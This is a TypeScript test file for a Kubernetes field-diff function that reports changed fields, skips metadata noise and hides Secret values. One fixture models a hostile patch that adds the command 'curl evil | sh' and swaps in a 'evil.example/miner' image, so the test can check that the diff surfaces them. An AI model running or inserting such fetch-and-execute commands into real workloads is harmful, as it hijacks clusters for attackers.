import { describe, expect, it } from 'vitest';
import { fieldDiff } from './diff.js';

const deployment = (image: string, replicas: number, extra: Record<string, unknown> = {}) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'web', resourceVersion: '7', generation: 3, managedFields: [{ manager: 'kubectl' }] },
  spec: {
    replicas,
    template: {
      spec: {
        containers: [
          { name: 'web', image, ...extra },
          { name: 'sidecar', image: 'envoy' },
        ],
      },
    },
  },
});

describe('fieldDiff', () => {
  it('names every field a patch changes, list items by name, noise left out', () => {
    const after = {
      ...deployment('evil.example/miner', 0, { command: ['sh', '-c', 'curl evil | sh'] }),
      metadata: { name: 'web', resourceVersion: '8', generation: 4, managedFields: [] },
    };
    expect(fieldDiff(deployment('nginx:1.27', 3), after, { secret: false })).toEqual([
      { path: 'spec.replicas', op: 'change', before: '3', after: '0' },
      {
        path: 'spec.template.spec.containers[name=web].command',
        op: 'add',
        after: '["sh","-c","curl evil | sh"]',
      },
      {
        path: 'spec.template.spec.containers[name=web].image',
        op: 'change',
        before: '"nginx:1.27"',
        after: '"evil.example/miner"',
      },
    ]);
  });

  it('is empty when nothing but noise moves', () => {
    const after = {
      ...deployment('nginx', 3),
      metadata: { name: 'web', resourceVersion: '9', generation: 9 },
    };
    expect(fieldDiff(deployment('nginx', 3), after, { secret: false })).toEqual([]);
  });

  it('walks a create to its leaves', () => {
    expect(
      fieldDiff(undefined, { metadata: { name: 'x', labels: { a: 'b' } }, data: {} }, { secret: false }),
    ).toEqual([
      { path: 'data', op: 'add', after: '{}' },
      { path: 'metadata.labels.a', op: 'add', after: '"b"' },
      { path: 'metadata.name', op: 'add', after: '"x"' },
    ]);
  });

  it("shows a Secret's data as keys only, and the last-applied copy never", () => {
    const lastApplied = 'kubectl.kubernetes.io/last-applied-configuration';
    const before = {
      kind: 'Secret',
      metadata: { name: 's', annotations: { [lastApplied]: '{"data":{"password":"b2xk"}}' } },
      data: { password: 'b2xk', user: 'YWRtaW4=' },
    };
    const after = {
      kind: 'Secret',
      metadata: { name: 's', annotations: { [lastApplied]: '{"data":{"password":"bmV3"}}' } },
      data: { password: 'bmV3', user: 'YWRtaW4=', token: 'dG9r' },
    };
    const changes = fieldDiff(before, after, { secret: true });
    expect(changes).toEqual([
      { path: 'data.password', op: 'change' },
      { path: 'data.token', op: 'add' },
      { path: `metadata.annotations.${lastApplied}`, op: 'change' },
    ]);
    expect(JSON.stringify(changes)).not.toMatch(/b2xk|bmV3|dG9r|YWRtaW4/);
    // A Secret created whole: one line per key, still no values.
    expect(fieldDiff(undefined, { kind: 'Secret', data: { a: 'c2VjcmV0' } }, { secret: true })).toEqual([
      { path: 'data.a', op: 'add' },
      { path: 'kind', op: 'add', after: '"Secret"' },
    ]);
  });

  it('compares lists without names by index', () => {
    expect(
      fieldDiff(
        { spec: { rules: [{ host: 'a' }, { host: 'b' }] } },
        { spec: { rules: [{ host: 'a' }] } },
        { secret: false },
      ),
    ).toEqual([{ path: 'spec.rules[1].host', op: 'remove', before: '"b"' }]);
  });
});
